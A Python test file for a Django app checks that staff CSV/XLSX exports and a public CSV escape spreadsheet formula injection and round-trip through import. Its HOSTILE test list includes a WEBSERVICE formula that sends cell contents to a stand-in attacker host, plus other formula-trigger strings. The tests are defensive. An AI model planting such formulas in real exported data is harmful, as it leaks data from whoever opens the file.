"""Exports that no spreadsheet reads as formulas, and that an import still reads back
exactly: the staff's CSV and XLSX sheets and the public CSV."""

import csv
import io
import re
import xml.etree.ElementTree as ET
import zipfile

import openpyxl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from centers import sheets
from centers.imports import centers_import
from centers.models import Center

from .factories import RABAT_HASSAN_TOWER, CategoryFactory, make_center

HOSTILE = [
    '=WEBSERVICE("http://evil.example/?"&W2&X2)',
    "@SUM(1)",
    "+1+1",
    "-2+3",
    "\t=1",
    "\r=1",
]
# The hostile texts that the import's trimming of spaces leaves as they are.
HOSTILE_UNTRIMMED = [text for text in HOSTILE if text == text.strip()]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00")
WRITERS = [sheets.write_csv, sheets.write_xlsx]
NAME_FR = sheets.COLUMN_NAMES.index("name_fr")

bounded = settings(max_examples=300, deadline=None, derandomize=True, database=None)


def sheet_row(**values: str) -> list[str]:
    return [values.get(name, "") for name in sheets.COLUMN_NAMES]


def filename(writer) -> str:
    return "export.xlsx" if writer is sheets.write_xlsx else "export.csv"


def written_cells(content: bytes, writer) -> list[list]:
    """The cells of the file as a spreadsheet program finds them, header first."""
    if writer is sheets.write_csv:
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [[cell.value for cell in row] for row in workbook["centers"].iter_rows()]


def read_name(content: bytes, writer) -> str:
    rows, _errors = sheets.read_sheet(content, filename(writer))
    return rows[0].values["name_fr"]


# The rule, over any text.


@bounded
@given(st.text())
@example("'=x")
@example("''=x")
@example("'x")
@example("'")
@example("-6.8416")
@example("'-6.8416")
@example("+212537000000")
def test_quoting_gives_back_any_text(text):
    assert sheets.unquote_formula(sheets.quote_formula(text)) == text


@bounded
@given(st.text())
def test_a_quoted_text_never_begins_with_a_formula_trigger_unless_it_is_a_number(text):
    quoted = sheets.quote_formula(text)

    if quoted.startswith(TRIGGERS):
        assert re.fullmatch(r"-[0-9]+(\.[0-9]+)?", quoted)


# Through the files, as the import reads a cell: without its surrounding spaces.


@bounded
@given(st.text())
@example("\t=1")
@example("\r=1")
@example("'=x")
def test_a_csv_cell_reads_back_as_the_text_that_was_written(text):
    content = sheets.write_csv([sheet_row(external_ref="r-1", name_ar="اسم", name_fr=text)])

    assert read_name(content, sheets.write_csv) == text.strip()


# XML holds neither the control characters openpyxl refuses nor a carriage return (it
# reads back as a line feed).
xlsx_text = st.text(
    st.characters(
        exclude_categories=("Cs",),
        exclude_characters=[chr(c) for c in range(32) if chr(c) not in "\t\n"]
        + ["\ufffe", "\uffff"],
    )
)


@bounded
@given(xlsx_text)
@example("\t=1")
@example("'=x")
def test_an_xlsx_cell_reads_back_as_the_text_that_was_written(text):
    content = sheets.write_xlsx([sheet_row(external_ref="r-1", name_ar="اسم", name_fr=text)])

    assert read_name(content, sheets.write_xlsx) == text.strip()


@pytest.mark.parametrize("writer", WRITERS)
@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_hostile_cell_is_written_behind_an_apostrophe_and_read_back_without(writer, hostile):
    content = writer([sheet_row(external_ref="r-1", name_fr=hostile)])

    cell = written_cells(content, writer)[1][NAME_FR]
    assert cell.startswith("'") and cell[1:].strip() == hostile.strip()
    assert read_name(content, writer) == hostile.strip()


def test_an_xlsx_export_holds_no_formula():
    rows = [sheet_row(external_ref=f"r-{i}", name_fr=text) for i, text in enumerate(HOSTILE)]
    content = sheets.write_xlsx(rows, with_column_help=True)

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        worksheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert len(worksheets) == 2
        for name in worksheets:
            # Our own export, not an upload: the standard parser is safe here.
            root = ET.fromstring(archive.read(name))  # noqa: S314
            cells = root.findall(".//{*}c")
            assert cells and all(cell.get("t") == "inlineStr" for cell in cells)
            assert not root.findall(".//{*}f")
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    assert "f" not in {cell.data_type for row in workbook["centers"].iter_rows() for cell in row}


# Centers exported and imported again.


@pytest.mark.django_db
@pytest.mark.parametrize("writer", WRITERS)
def test_hostile_names_phones_and_negative_longitudes_survive_export_and_import(writer):
    category = CategoryFactory(code="disability")
    for number, name in enumerate(HOSTILE_UNTRIMMED):
        make_center(
            at=RABAT_HASSAN_TOWER,
            category=category,
            external_ref=f"e-{number}",
            name_fr=name,
            phones=["+212537000000", "+212522000000"],
        )
    before = [sheets.center_row(center) for center in Center.objects.order_by("external_ref")]
    content = writer(before)

    cells = written_cells(content, writer)
    header, first = cells[0], cells[1]
    assert first[header.index("name_fr")] == "'" + HOSTILE_UNTRIMMED[0]
    assert first[header.index("phones")] == "'+212537000000;+212522000000"
    assert first[header.index("longitude")] == "-6.8225000"
    rows, errors = sheets.read_sheet(content, filename(writer))
    report = centers_import(user=None, rows=rows, errors=errors, dry_run=False, reason="test")

    assert report.applied, report.errors
    assert report.count("unchanged") == len(HOSTILE_UNTRIMMED)
    after = Center.objects.order_by("external_ref")
    assert [center.name_fr for center in after] == HOSTILE_UNTRIMMED
    assert {tuple(center.phones) for center in after} == {("+212537000000", "+212522000000")}
    assert [sheets.center_row(center) for center in after] == before


@pytest.mark.django_db
def test_a_longitude_typed_behind_an_apostrophe_is_read_as_a_number():
    CategoryFactory(code="disability")
    text = "external_ref,name_fr,category,latitude,longitude\nr-1,Centre,disability,34.02,'-6.84\n"

    rows, errors = sheets.read_sheet(text.encode(), "centers.csv")

    assert not errors
    assert rows[0].values["longitude"] == -6.84


# The public CSV.


@pytest.mark.django_db
def test_the_public_csv_quotes_hostile_names_and_leaves_coordinates_numbers(api_client):
    for name in HOSTILE_UNTRIMMED:
        make_center(at=RABAT_HASSAN_TOWER, name_fr=name)

    response = api_client.get("/api/v1/centers/", {"format": "csv"})

    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.getvalue().decode("utf-8-sig"))))
    assert sorted(row["name_fr"] for row in rows) == sorted("'" + n for n in HOSTILE_UNTRIMMED)
    assert {row["longitude"] for row in rows} == {"-6.8225"}
    assert {row["latitude"] for row in rows} == {"34.024"}
    assert {row["archived"] for row in rows} == {"no"}
